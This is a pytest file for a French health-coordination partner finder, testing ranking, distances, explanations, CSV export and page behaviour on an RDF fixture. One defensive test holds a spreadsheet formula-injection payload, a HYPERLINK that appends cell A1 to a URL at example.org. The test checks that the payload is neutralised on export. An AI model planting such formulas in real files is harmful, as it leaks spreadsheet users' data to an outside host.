"""The partner finder (app/viewer/partners.py, app/views/partenaires.py): ranking, distances and explanations on a
small fixture graph whose expected order and reasons are known; the page on the seed build."""

from __future__ import annotations

import csv
import io

import pyoxigraph as ox
import pytest

from app.viewer.downloads import BOM
from app.viewer.model import Viewer
from app.viewer.partners import PartnerGraph, Proposal, code, to_csv
from graph_builder.referential import geometry
from maillage.proximity import km
from maillage.stores import OxigraphStore
from tests.test_viewer import shown

ID = "https://w3id.org/maillage/id/"
T = ID + "territoire/"

# Région 93 > départements 13 and 84; EPCI 200054807 (in 13) holds communes 13001 (A) and 13005 (B); 13056 is in
# 13 only; 84007 and 84031 are in 84. Four coordinations, two actors, one experience, a three-mission matrix.
# Further away, for distances (real INSEE codes: the points are the project's, graph_builder/referential/geometry):
# Villeneuve-lès-Avignon (30351, 2 km from Avignon across the Rhône) and Nîmes (30189, 38 km from Avignon) in the
# Gard; Strasbourg (67482) and Illkirch (67218, 6 km away, an ASV of no theme) in the Bas-Rhin; Lille (59350);
# Saint-Pierre (97502), which the points do not place.
FIXTURE = """
@prefix igeo: <http://rdf.insee.fr/def/geo#> .
@prefix mlg: <https://w3id.org/maillage/def/core#> .
@prefix org: <http://www.w3.org/ns/org#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix skos: <http://www.w3.org/2004/02/skos/core#> .
@prefix t: <https://w3id.org/maillage/id/territoire/> .
@prefix id: <https://w3id.org/maillage/id/> .

t:region\\/93 a igeo:Region ; igeo:codeINSEE "93" ; igeo:nom "Sud" .
t:departement\\/13 a igeo:Departement ; igeo:codeINSEE "13" ; igeo:nom "Bouches-du-Rhône" ;
    igeo:subdivisionDirecteDe t:region\\/93 .
t:departement\\/84 a igeo:Departement ; igeo:codeINSEE "84" ; igeo:nom "Vaucluse" ; igeo:subdivisionDirecteDe t:region\\/93 .
t:epci\\/200054807 a igeo:Intercommunalite ; igeo:codeINSEE "200054807" ; igeo:nom "Métropole" ;
    igeo:subdivisionDirecteDe t:departement\\/13 .
t:commune\\/13001 a igeo:Commune ; igeo:codeINSEE "13001" ; igeo:nom "Aix" ;
    igeo:subdivisionDirecteDe t:epci\\/200054807, t:departement\\/13 .
t:commune\\/13005 a igeo:Commune ; igeo:codeINSEE "13005" ; igeo:nom "Aubagne" ;
    igeo:subdivisionDirecteDe t:epci\\/200054807, t:departement\\/13 .
t:commune\\/13056 a igeo:Commune ; igeo:codeINSEE "13056" ; igeo:nom "Martigues" ; igeo:subdivisionDirecteDe t:departement\\/13 .
t:commune\\/84007 a igeo:Commune ; igeo:codeINSEE "84007" ; igeo:nom "Avignon" ; igeo:subdivisionDirecteDe t:departement\\/84 .
t:commune\\/84031 a igeo:Commune ; igeo:codeINSEE "84031" ; igeo:nom "Carpentras" ;
    igeo:subdivisionDirecteDe t:departement\\/84 .
t:region\\/76 a igeo:Region ; igeo:codeINSEE "76" ; igeo:nom "Occitanie" .
t:departement\\/30 a igeo:Departement ; igeo:codeINSEE "30" ; igeo:nom "Gard" ; igeo:subdivisionDirecteDe t:region\\/76 .
t:commune\\/30351 a igeo:Commune ; igeo:codeINSEE "30351" ; igeo:nom "Villeneuve-lès-Avignon" ;
    igeo:subdivisionDirecteDe t:departement\\/30 .
t:commune\\/30189 a igeo:Commune ; igeo:codeINSEE "30189" ; igeo:nom "Nîmes" ; igeo:subdivisionDirecteDe t:departement\\/30 .
t:region\\/44 a igeo:Region ; igeo:codeINSEE "44" ; igeo:nom "Grand Est" .
t:departement\\/67 a igeo:Departement ; igeo:codeINSEE "67" ; igeo:nom "Bas-Rhin" ; igeo:subdivisionDirecteDe t:region\\/44 .
t:commune\\/67482 a igeo:Commune ; igeo:codeINSEE "67482" ; igeo:nom "Strasbourg" ; igeo:subdivisionDirecteDe t:departement\\/67 .
t:commune\\/67218 a igeo:Commune ; igeo:codeINSEE "67218" ; igeo:nom "Illkirch" ; igeo:subdivisionDirecteDe t:departement\\/67 .
t:region\\/32 a igeo:Region ; igeo:codeINSEE "32" ; igeo:nom "Hauts-de-France" .
t:departement\\/59 a igeo:Departement ; igeo:codeINSEE "59" ; igeo:nom "Nord" ; igeo:subdivisionDirecteDe t:region\\/32 .
t:commune\\/59350 a igeo:Commune ; igeo:codeINSEE "59350" ; igeo:nom "Lille" ; igeo:subdivisionDirecteDe t:departement\\/59 .
t:departement\\/975 a igeo:Departement ; igeo:codeINSEE "975" ; igeo:nom "Saint-Pierre-et-Miquelon" .
t:commune\\/97502 a igeo:Commune ; igeo:codeINSEE "97502" ; igeo:nom "Saint-Pierre" ;
    igeo:subdivisionDirecteDe t:departement\\/975 .

id:theme\\/sante-mentale a mlg:Theme ; skos:prefLabel "Santé mentale"@fr, "Mental health"@en .
id:mission\\/diagnostic a mlg:Mission ; skos:prefLabel "Diagnostic local de santé"@fr .
id:mission\\/programme a mlg:Mission ; skos:prefLabel "Programme d'actions"@fr .
id:mission\\/accompagnement a mlg:Mission ; skos:prefLabel "Accompagnement méthodologique"@fr .
id:role\\/coordonnateur a mlg:Role ; skos:prefLabel "Coordonnateur"@fr, "Coordinator"@en .
id:role\\/partenaire a mlg:Role ; skos:prefLabel "Partenaire"@fr .
id:coordination-type\\/ASV a mlg:CoordinationType ; skos:prefLabel "Atelier santé ville"@fr .
id:coordination-type\\/CLS a mlg:CoordinationType ; skos:prefLabel "Contrat local de santé"@fr .
id:coordination-type\\/CLSM a mlg:CoordinationType ; skos:prefLabel "Conseil local de santé mentale"@fr ;
    mlg:theme id:theme\\/sante-mentale .
id:coordination-type\\/CMT a mlg:CoordinationType ; skos:prefLabel "Conseiller méthodologique de territoire"@fr .
id:cell\\/ASV-diagnostic a mlg:MissionAssignment ; mlg:coordinationType id:coordination-type\\/ASV ;
    mlg:mission id:mission\\/diagnostic .
id:cell\\/ASV-programme a mlg:MissionAssignment ; mlg:coordinationType id:coordination-type\\/ASV ;
    mlg:mission id:mission\\/programme .
id:cell\\/ASV-accompagnement a mlg:MissionAssignment ; mlg:coordinationType id:coordination-type\\/ASV ;
    mlg:mission id:mission\\/accompagnement .
id:cell\\/CLS-diagnostic a mlg:MissionAssignment ; mlg:coordinationType id:coordination-type\\/CLS ;
    mlg:mission id:mission\\/diagnostic .
id:cell\\/CLS-programme a mlg:MissionAssignment ; mlg:coordinationType id:coordination-type\\/CLS ;
    mlg:mission id:mission\\/programme .
id:cell\\/CMT-accompagnement a mlg:MissionAssignment ; mlg:coordinationType id:coordination-type\\/CMT ;
    mlg:mission id:mission\\/accompagnement .

id:coordination\\/asv-aix a mlg:Coordination ; rdfs:label "ASV d'Aix"@fr ; mlg:coordinationType id:coordination-type\\/ASV ;
    mlg:territory t:commune\\/13001 ; mlg:theme id:theme\\/sante-mentale ; mlg:contactRole id:role\\/coordonnateur .
id:coordination\\/cls-13 a mlg:Coordination ; rdfs:label "CLS des Bouches-du-Rhône"@fr ;
    mlg:coordinationType id:coordination-type\\/CLS ; mlg:territory t:departement\\/13 .
id:coordination\\/clsm-aubagne a mlg:Coordination ; rdfs:label "CLSM d'Aubagne"@fr ;
    mlg:coordinationType id:coordination-type\\/CLSM ; mlg:territory t:commune\\/13005 .
id:coordination\\/cmt-avignon a mlg:Coordination ; rdfs:label "CMT d'Avignon"@fr ;
    mlg:coordinationType id:coordination-type\\/CMT ; mlg:territory t:commune\\/84007 ; mlg:theme id:theme\\/sante-mentale .
id:coordination\\/asv-illkirch a mlg:Coordination ; rdfs:label "ASV d'Illkirch"@fr ;
    mlg:coordinationType id:coordination-type\\/ASV ; mlg:territory t:commune\\/67218 .
id:experience\\/martigues a mlg:FieldExperience ; rdfs:label "Écoute à Martigues"@fr ;
    mlg:carriedOutBy id:coordination\\/cls-13 ; mlg:theme id:theme\\/sante-mentale ; mlg:place t:commune\\/13056 ;
    mlg:contactRole id:role\\/coordonnateur .

id:acteur\\/association-aix a mlg:Actor ; rdfs:label "Association d'Aix"@fr ; mlg:basedIn t:commune\\/13001 .
id:acteur\\/poste-clsm a mlg:Actor ; rdfs:label "Coordination du CLSM"@fr ; mlg:basedIn t:commune\\/13005 .
id:participation\\/1 a mlg:Participation ; org:member id:acteur\\/association-aix ; org:organization id:coordination\\/cls-13 ;
    org:role id:role\\/partenaire .
id:participation\\/2 a mlg:Participation ; org:member id:acteur\\/poste-clsm ;
    org:organization id:coordination\\/clsm-aubagne ; org:role id:role\\/coordonnateur ; mlg:contactPoint true .
"""


@pytest.fixture(scope="module")
def partners() -> PartnerGraph:
    store = ox.Store()
    store.load(FIXTURE.encode(), format=ox.RdfFormat.TURTLE)
    return PartnerGraph.from_viewer(Viewer(OxigraphStore(store)))


@pytest.fixture(scope="module")
def places() -> geometry.Geometry:
    return geometry.load(geometry.ensure())


def ranked(partners: PartnerGraph, territory: str, **options) -> list[tuple[str, float]]:
    return [(p.iri.rsplit("/", 1)[1], p.score) for p in partners.rank(territory, **options)]


def distances(partners: PartnerGraph, territory: str, places, **options) -> list[tuple[str, float, int | None]]:
    """(name, score, whole kilometres) of each proposal, in the order given."""
    return [(p.iri.rsplit("/", 1)[1], p.score, None if p.distance is None else round(p.distance))
            for p in partners.rank(territory, geometry=places, **options)]


def reasons(partners: PartnerGraph, territory: str, name: str, **options) -> list[str]:
    [found] = [p for p in partners.rank(territory, **options) if p.iri.endswith("/" + name)]
    return [partners.sentence(r) for r in found.reasons]


def test_ranking_by_territory_theme_and_membership(partners):
    # Without the places' points: what is on the spot first (0 km through the nesting), then the rest by score.
    assert ranked(partners, "commune/13001", concepts=[ID + "theme/sante-mentale"]) == [
        ("asv-aix", 7.0),             # same commune 4 + declares the theme 3
        ("association-aix", 6.0),     # based there 4 + partner of the CLS 1 + the CLS's theme through it 1
        ("cls-13", 4.5),              # its département encloses Aix 2.5 + an experience on the theme 2
        ("clsm-aubagne", 3.0),        # neighbour in the same EPCI 2 + its type's theme 1
        ("cmt-avignon", 3.0),         # far (another département) but declares the theme 3
        ("poste-clsm", 3.0),          # neighbour 2 + coordinator of the CLSM 1
    ]  # ties by label: « CLSM d'Aubagne » < « CMT d'Avignon » < « Coordination du CLSM »


def test_near_ones_first(partners, places):
    theme = [ID + "theme/sante-mentale"]
    # Aix: the CMT of Avignon (70 km) now comes after the CLSM's coordinator, of the same score, 28 km away.
    assert distances(partners, "commune/13001", places, concepts=theme) == [
        ("asv-aix", 7.0, 0), ("association-aix", 6.0, 0), ("cls-13", 4.5, 0),  # on the spot (nested)
        ("clsm-aubagne", 3.0, 28), ("poste-clsm", 3.0, 28),                      # within 30 km
        ("cmt-avignon", 3.0, 70)]                                                # within 100 km
    # Strasbourg: the ASV of Illkirch, 6 km away and of no theme (score 2.5), comes before the two coordinations
    # that declare the theme (score 3) 560 and 590 km away, and the CLS with an experience on it.
    assert distances(partners, "commune/67482", places, concepts=theme) == [
        ("asv-illkirch", 2.5, 6), ("cmt-avignon", 3.0, 562), ("asv-aix", 3.0, 588), ("cls-13", 2.0, 596)]
    # Villeneuve-lès-Avignon, in another département and région than Avignon: its CMT is proposed for its nearness
    # alone, 2 km away; Aix's ASV, 71 km away and on the theme, after it; the CLS of the Bouches-du-Rhône (from the
    # département's middle, 52 km) has the lower score within 100 km.
    assert distances(partners, "commune/30351", places, concepts=theme) == [
        ("cmt-avignon", 4.5, 2), ("asv-aix", 3.0, 71), ("cls-13", 2.0, 52)]
    assert reasons(partners, "commune/30351", "cmt-avignon", geometry=places)[0] == (
        "Territoire d'intervention : Avignon (84) — 84007, à 2 km de Villeneuve-lès-Avignon (30) — 30351.")
    # The distance is the crow flies' between the two points (the town halls).
    [cmt] = [p for p in partners.rank("commune/30351", geometry=places) if p.iri.endswith("cmt-avignon")]
    assert cmt.distance == pytest.approx(km(places.point("commune/30351"), places.point("commune/84007")))


def test_a_plain_sentence_when_nothing_is_near(partners, places):
    lille = partners.find("commune/59350", [ID + "theme/sante-mentale"], geometry=places)
    assert [p.iri.rsplit("/", 1)[1] for p in lille.proposals] == ["cmt-avignon", "asv-aix", "cls-13"]  # far, on the theme
    assert partners.remark(lille) == ("Aucune coordination connue à moins de 100 km de Lille (59) — 59350 ; la plus "
                                      "proche : ASV d'Illkirch, à 408 km.")
    assert partners.remark(lille, "en") == ("No known coordination within 100 km of Lille (59) — 59350; the nearest: "
                                            "ASV d'Illkirch, 408 km away.")
    assert partners.find("commune/59350", geometry=places).proposals == []  # nothing at all: the sentence says why
    # Nîmes: the CMT of Avignon is 38 km away, neither near enough to be proposed for that alone nor on a chosen theme.
    nimes = partners.find("commune/30189", geometry=places)
    assert nimes.proposals == [] and partners.remark(nimes) == (
        "Aucune coordination proposée à moins de 100 km ; la plus proche connue, CMT d'Avignon (à 38 km), ne "
        "correspond pas à vos choix.")
    # A territory without a point: said so, and the proposals on the theme come with no distance.
    far = partners.find("commune/97502", [ID + "theme/sante-mentale"], geometry=places)
    assert partners.remark(far) == ("La position de Saint-Pierre (975) — 97502 est inconnue : les distances depuis ce "
                                    "territoire ne peuvent pas être mesurées.")
    assert [p.distance for p in far.proposals] == [None, None, None]
    # Near enough: nothing to say. Without the points: nothing measured, nothing said.
    assert partners.remark(partners.find("commune/13001", geometry=places)) is None
    assert partners.remark(partners.find("commune/59350")) is None


def test_reasons_named_in_place_of_a_score(partners, places):
    found = {p.iri.rsplit("/", 1)[1]: partners.motifs(p) for p in
             partners.rank("commune/13001", [ID + "theme/sante-mentale"], geometry=places)}
    assert found == {
        "asv-aix": ["même territoire", "thématique partagée"],
        "association-aix": ["même territoire", "membre d'une coordination proposée"],
        "cls-13": ["englobe votre territoire", "expérience sur la thématique"],
        "clsm-aubagne": ["même EPCI", "thématique de son type"],
        "poste-clsm": ["même EPCI", "membre d'une coordination proposée"],
        "cmt-avignon": ["thématique partagée"]}
    [cmt] = [p for p in partners.rank("commune/84031", geometry=places)]
    assert partners.motifs(cmt) == ["même département", "mission complémentaire"]
    assert partners.motifs(cmt, "en") == ["same département", "complementary mission"]


def test_own_type_changes_the_proposals(partners, places):
    def seen(own: str | None) -> dict[str, list[str]]:
        return {p.iri.rsplit("/", 1)[1]: partners.motifs(p) for p in partners.rank(
            "commune/13001", own_type=own and ID + "coordination-type/" + own, geometry=places)}

    nothing, cls, clsm, cmt = seen(None), seen("CLS"), seen("CLSM"), seen("CMT")
    assert len({str(nothing), str(cls), str(clsm), str(cmt)}) == 4  # each type its own proposals
    assert cls["cls-13"] == ["englobe votre territoire", "même type que le vôtre"]
    assert cls["asv-aix"] == ["même territoire", "mission complémentaire"]  # the ASV's row has the accompaniment
    assert cls["clsm-aubagne"] == ["même EPCI", "thématique complémentaire"]
    assert clsm["clsm-aubagne"] == ["même EPCI", "même type que le vôtre"]
    assert clsm["asv-aix"] == ["même territoire"]  # no row for a CLSM in the matrix: no mission said complementary
    assert reasons(partners, "commune/13001", "clsm-aubagne", own_type=ID + "coordination-type/CLS") == [
        "Territoire d'intervention : Aubagne (13) — 13005, comme Aix (13) — 13001 dans Métropole — EPCI 200054807.",
        "Son type (Conseil local de santé mentale) travaille la thématique « Santé mentale », que votre type "
        "(Contrat local de santé) ne compte pas parmi les siennes."]
    assert reasons(partners, "commune/13001", "cls-13", own_type=ID + "coordination-type/CLS")[1] == (
        "Même type que le vôtre (Contrat local de santé) : un pair avec qui échanger sur vos pratiques.")
    assert partners.own_type_note(ID + "coordination-type/CLSM").startswith(
        "La matrice des missions ne dit rien de votre type (Conseil local de santé mentale) : aucune mission ne peut "
        "être dite complémentaire.")
    assert partners.own_type_note(ID + "coordination-type/ASV").startswith(
        "D'après la matrice des missions, votre type (Atelier santé ville) a toutes ses missions (« Accompagnement "
        "méthodologique », « Diagnostic local de santé », « Programme d'actions ») : aucune ne lui manque.")
    assert partners.own_type_note(ID + "coordination-type/CMT").startswith(
        "D'après la matrice des missions, votre type (Conseiller méthodologique de territoire) a : « Accompagnement "
        "méthodologique ».")


def test_each_reason_is_a_path_of_the_graph(partners):
    [cls] = [p for p in partners.rank("commune/13001", [ID + "theme/sante-mentale"]) if p.iri.endswith("cls-13")]
    territory, theme = cls.reasons
    assert territory.nodes == [ID + "coordination/cls-13", T + "departement/13", T + "commune/13001"]
    assert theme.nodes == [ID + "coordination/cls-13", ID + "experience/martigues", ID + "theme/sante-mentale"]
    for reason in (territory, theme):
        for step in reason.steps:
            assert partners.graph.has_edge(step.source, step.target, key=step.relation)
    [clsm] = [p for p in partners.rank("commune/13001") if p.iri.endswith("clsm-aubagne")]
    assert clsm.reasons[0].nodes == [ID + "coordination/clsm-aubagne", T + "commune/13005", T + "epci/200054807",
                                     T + "commune/13001"]


def test_explanations_in_plain_french_and_english(partners):
    theme = [ID + "theme/sante-mentale"]
    assert reasons(partners, "commune/13001", "cls-13", concepts=theme) == [
        "Territoire d'intervention : Bouches-du-Rhône — Département 13, qui englobe Aix (13) — 13001.",
        "A porté l'expérience « Écoute à Martigues », liée à la thématique « Santé mentale ».",
    ]
    assert reasons(partners, "commune/13001", "clsm-aubagne", concepts=theme) == [
        "Territoire d'intervention : Aubagne (13) — 13005, comme Aix (13) — 13001 dans Métropole — EPCI 200054807.",
        "Son type (Conseil local de santé mentale) compte la thématique « Santé mentale » parmi ses thématiques.",
    ]
    assert reasons(partners, "commune/13001", "association-aix", concepts=theme) == [
        "Implantation : Aix (13) — 13001, le territoire choisi.",
        "Rôle « Partenaire » dans « CLS des Bouches-du-Rhône ».",
        "Rôle « Partenaire » dans « CLS des Bouches-du-Rhône », qui : a porté l'expérience « Écoute à Martigues », "
        "liée à la thématique « Santé mentale ».",
    ]
    [asv] = [p for p in partners.rank("commune/13001", theme) if p.iri.endswith("asv-aix")]
    assert [partners.sentence(r, "en") for r in asv.reasons] == [
        "Works in: Aix (13) — 13001, the chosen territory.", "Works on the theme « Mental health »."]


def test_complementary_missions_from_the_matrix(partners):
    cmt = ID + "coordination-type/CMT"  # the matrix gives a CMT neither diagnosis nor programme
    assert ranked(partners, "commune/13001", own_type=cmt)[:2] == [("association-aix", 5.0), ("asv-aix", 5.0)]  # by label
    assert reasons(partners, "commune/13001", "cls-13", own_type=cmt)[1:] == [
        "Mission « Diagnostic local de santé » de son type (Contrat local de santé, matrice des missions), que votre "
        "type (Conseiller méthodologique de territoire) n'a pas.",
        "Mission « Programme d'actions » de son type (Contrat local de santé, matrice des missions), que votre type "
        "(Conseiller méthodologique de territoire) n'a pas."]
    # Carpentras: no coordination works there or around it; the CMT of Avignon, in the same département, can help.
    assert ranked(partners, "commune/84031") == [("cmt-avignon", 1.5)]
    assert reasons(partners, "commune/84031", "cmt-avignon")[1] == (
        "Mission « Accompagnement méthodologique » de son type (Conseiller méthodologique de territoire, matrice des "
        "missions), alors qu'aucune coordination connue n'intervient sur le territoire choisi ni autour.")
    # Aix is covered by an ASV (every mission): nothing is missing there.
    assert not [r for p in partners.rank("commune/13001") for r in p.reasons if r.kind.startswith("mission")]


def test_contact_is_a_role_never_a_person(partners):
    found = {p.iri.rsplit("/", 1)[1]: partners.contact(p) for p in partners.rank("commune/13001")}
    assert found["asv-aix"] == "Coordonnateur"                       # the coordination's contact role
    assert found["clsm-aubagne"] == "Coordonnateur"                  # the participation marked as contact point
    assert found["cls-13"] == "Coordonnateur"                        # the role its experience gives
    assert found["association-aix"] == "Partenaire — CLS des Bouches-du-Rhône"


def read_csv(data: bytes) -> list[list[str]]:
    """A CSV as French Excel reads it: UTF-8 after its byte order mark, `;` between cells."""
    text = data.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def test_csv_export(partners, places):
    proposals = partners.rank("commune/13001", [ID + "theme/sante-mentale"], geometry=places)
    rows = read_csv(to_csv(partners, proposals))
    assert rows[0] == ["rang", "genre", "nom", "identifiant", "distance (km)", "motifs", "raisons", "contact"]
    assert rows[1] == ["1", "coordination", "ASV d'Aix", "coordination/asv-aix", "0",
                       "même territoire, thématique partagée",
                       "Territoire d'intervention : Aix (13) — 13001, le territoire choisi. | "
                       "Travaille la thématique « Santé mentale ».", "Coordonnateur"]
    assert [r[2] for r in rows[1:]][:3] == ["ASV d'Aix", "Association d'Aix", "CLS des Bouches-du-Rhône"]
    assert [r[4] for r in rows[1:]] == ["0", "0", "0", "28", "28", "70"]
    assert rows[2][1] == "acteur" and len(rows) == 7
    english = read_csv(to_csv(partners, proposals, "en"))
    assert english[0][:5] == ["rank", "kind", "name", "id", "distance (km)"] and english[2][1] == "actor"
    assert read_csv(to_csv(partners, partners.rank("commune/13001")))[4][4] == ""  # no points: distance unknown


def test_csv_export_runs_no_formula_from_a_label(partners):
    hostile = Proposal(ID + "acteur/x", "actor", '=HYPERLINK("http://example.org/?"&A1;"Cliquez")')
    rows = read_csv(to_csv(partners, [hostile]))
    assert rows[1][2] == '\'=HYPERLINK("http://example.org/?"&A1;"Cliquez")' and rows[1][4] == ""


def test_concept_choices_and_codes(partners):
    assert partners.choices("theme", "en") == {ID + "theme/sante-mentale": "Mental health"}
    assert partners.from_codes("type", ["CMT", "nowhere"]) == [ID + "coordination-type/CMT"]


# -- the page, on the seed build ------------------------------------------------------------------

def test_page_from_a_shared_link(app):  # noqa: F811
    at = app("partenaires", territory="commune/67482", themes="sante-mentale")
    text = shown(at)
    assert "Territoire d'intervention : Strasbourg (67) — 67482, le territoire choisi." in text
    assert "A porté l'expérience « Appropriation de la santé mentale et ouverture de l'hôpital sur la ville à " \
           "Strasbourg », liée à la thématique « Santé mentale »." in text
    first = at.get("page_link")[0].proto  # each coordination links to its page
    assert (first.label, first.page, first.query_string) == (
        "1. Atelier santé ville de Strasbourg", "coordinations", "id=coordination%2Fasv-strasbourg")
    assert "Contact : Coordonnateur" in "\n".join(c.value for c in at.caption)
    # Where each proposed coordination comes from, as on its card (a contribution names who and when).
    sources = [c.value for c in at.caption if c.value.startswith("Source : ")]
    assert sources[0] == "Source : Agir pour la prévention et la promotion de la santé dans les quartiers de la " \
                         "politique de la ville", sources


def test_page_pick_a_territory_and_a_theme(app):  # noqa: F811
    at = app("partenaires")
    assert "Choisissez un territoire" in at.info[0].value
    at.text_input(key="partner_search").input("Aix-en-Provence").run()
    at.multiselect(key="partner_themes").select("https://w3id.org/maillage/id/theme/sante-mentale").run()
    assert not at.exception
    assert (at.query_params["territory"], at.query_params["themes"]) == ("commune/13001", "sante-mentale")
    text = shown(at)
    assert "Territoire d'intervention : Aix-en-Provence (13) — 13001, le territoire choisi." in text
    assert "Rôle « Membre du comité de pilotage » dans « Atelier santé ville d'Aix-en-Provence »." in text


def test_page_in_english(app):  # noqa: F811
    at = app("partenaires", lang="en", territory="departement/67", themes="sante-mentale")
    assert at.title[0].value == "Find partners"
    assert "Works in: Strasbourg (67) — 67482, within Bas-Rhin — Département 67." in shown(at)
    assert at.query_params["lang"] == "en"  # the page's own parameters leave the language in the address


def test_a_shared_link_fills_every_field(app):  # noqa: F811
    link = {"territory": "commune/93066", "themes": ["nutrition", "sante-mentale"],
            "determinants": "facteurs-individuels", "axes": "politiques-publiques", "type": "CLS"}
    at = app("partenaires", **link)
    assert at.text_input(key="partner_search").value == "Saint-Denis"
    # Saint-Denis (93) stays chosen though the Aude's Saint-Denis (11) may come first in a search for the name.
    [territory] = [s for s in at.selectbox if s.key == "partner_search.pick.Saint-Denis"]
    assert territory.value is not None and "93066" in territory.format_func(territory.value)
    assert [code(i) for i in at.multiselect(key="partner_themes").value] == ["nutrition", "sante-mentale"]
    assert [code(i) for i in at.multiselect(key="partner_determinants").value] == ["facteurs-individuels"]
    assert [code(i) for i in at.multiselect(key="partner_axes").value] == ["politiques-publiques"]
    assert code(at.selectbox(key="partner_type").value) == "CLS"
    assert {k: at.query_params[k] for k in link} == link  # and the address is the link again
    assert "Partenaires proposés pour Saint-Denis (93) — 93066" in shown(at)


def test_page_shows_distance_reasons_and_own_type(app):  # noqa: F811
    at = app("partenaires", territory="commune/13001", themes="sante-mentale", type="CLSM")
    captions = [c.value for c in at.caption]
    # The ASV of Aix-en-Provence: on the spot, the theme through its type, and its type's themes a CLSM lacks.
    assert "Sur place · Motifs : même territoire, thématique de son type, thématique complémentaire · Contact : " \
           "Coordonnateur" in captions
    assert any(c.startswith("À 588 km · Motifs : expérience sur la thématique") for c in captions)  # far, after
    assert not any("score" in c for c in captions)
    assert at.info[0].value.startswith("La matrice des missions ne dit rien de votre type (Conseil local de santé "
                                       "mentale)")
